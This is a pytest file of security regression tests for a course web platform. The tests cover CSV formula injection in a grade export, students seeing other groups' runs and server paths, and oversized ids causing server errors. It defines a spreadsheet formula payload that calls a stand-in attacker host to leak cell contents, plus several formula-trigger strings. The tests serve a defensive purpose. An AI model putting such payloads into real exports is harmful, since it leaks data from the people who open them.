"""Exports and pages safe for their readers (issue 21, finding 5): "formula injection in
/staff/grades.csv through a display name like =HYPERLINK(...)"; "/runs shows every student the
server's paths, hostname and command lines of every group's runs"; "GET /qa/99999999999999999999
(and /scribe-notes/…, /nodes/…/authorized_keys, /nodes/reservations/…/hostfile) answers 500".
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import update

from scalable_ai.course.db import unit_of_work
from scalable_ai.course.demo import DEMO_CREDENTIALS
from scalable_ai.course.service.actors import current_group_id
from scalable_ai.course.service.people import find_by_email
from scalable_ai.course.spreadsheet import safe_cell
from scalable_ai.course.tables import Group, Person
from scalable_ai.runs import open_run
from tests.web.conftest import sign_in

STAFF = next((e, p) for role, e, p in DEMO_CREDENTIALS if role == "staff")
STUDENT = next((e, p) for role, e, p in DEMO_CREDENTIALS if role == "student")
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
HUGE_ID = "99999999999999999999"


def test_a_spreadsheet_reads_every_text_cell_as_data():
    for text in (FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\uff1d1+1"):
        assert safe_cell(text) == "'" + text
    assert [safe_cell(v) for v in ("-1.50", "3", "Ada", 2.5, None)] == [
        "-1.50",
        "3",
        "Ada",
        2.5,
        None,
    ]


def test_a_formula_in_a_name_is_plain_text_in_the_grade_export(demo_platform):
    with demo_platform.engine.begin() as connection:
        connection.execute(update(Person).where(Person.email == STUDENT[0]).values(name=FORMULA))
    sign_in(demo_platform.client, *STAFF)
    text = demo_platform.client.get("/staff/grades.csv").text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def _group_name(platform, email: str) -> str:
    with unit_of_work(platform.engine) as session:
        person = find_by_email(session, email)
        return session.get(Group, current_group_id(session, person.id)).name


def test_a_student_sees_only_their_own_groups_runs_and_no_server_paths(demo_platform):
    runs_dir = demo_platform.settings.runs_dir
    ours = _group_name(demo_platform, STUDENT[0])
    made = {}
    for who in (ours, "Some Other Group", None):
        with open_run(
            "train.pretrain",
            config={"data": "/srv/course/secret/shards"},
            runs_dir=runs_dir,
            group=who or "",
        ) as run:
            run.summary(final_loss=1.0)
        made[who] = run.id
    sign_in(demo_platform.client, *STUDENT)
    listing = demo_platform.client.get("/runs").text
    assert made[ours] in listing
    assert made["Some Other Group"] not in listing and made[None] not in listing
    assert str(runs_dir) not in listing
    detail = demo_platform.client.get(f"/runs/{made[ours]}").text
    assert "/srv/course/secret" not in detail and "Argv" not in detail and "Host" not in detail
    # issue 13: "/runs shows UTC times": started and ended read in Berkeley time, in words
    for page in (listing, detail):
        assert "+00:00" not in page and not re.search(r"\d{4}-\d\d-\d\dT\d\d:", page)
    assert re.search(r"<dt>Ended</dt><dd>\w{3} \w{3} \d+, \d+:\d\d [AP]M</dd>", detail)
    for hidden in (made["Some Other Group"], made[None]):
        assert demo_platform.client.get(f"/runs/{hidden}").status_code == 404
        assert demo_platform.client.get(f"/runs/{hidden}/plot/loss.png").status_code == 404
    staff = demo_platform.new_client()
    sign_in(staff, *STAFF)
    everything = staff.get("/runs").text
    assert all(run_id in everything for run_id in made.values())


def _pages_with_an_id(app) -> list[str]:
    """Every page (not the API) whose address has an integer id, from the app's own OpenAPI
    description, so a page added later is covered by default."""
    pages = []
    for path, operations in app.openapi()["paths"].items():
        kinds = {
            p["name"]: p["schema"].get("type")
            for p in operations.get("get", {}).get("parameters", [])
            if p["in"] == "path"
        }
        if "integer" in kinds.values():
            pages.append(
                re.sub(
                    r"{(\w+)}",
                    lambda m, kinds=kinds: HUGE_ID if kinds.get(m.group(1)) == "integer" else "x",
                    path,
                )
            )
    return pages


@pytest.mark.parametrize("who", [STUDENT, STAFF])
def test_an_oversized_id_is_404_on_every_page(demo_platform, who):
    sign_in(demo_platform.client, *who)
    pages = _pages_with_an_id(demo_platform.app)
    assert "/qa/" + HUGE_ID in pages and len(pages) >= 5
    answers = {page: demo_platform.client.get(page).status_code for page in pages}
    assert {page: s for page, s in answers.items() if s >= 500} == {}
    assert {page: s for page, s in answers.items() if s not in (403, 404)} == {}
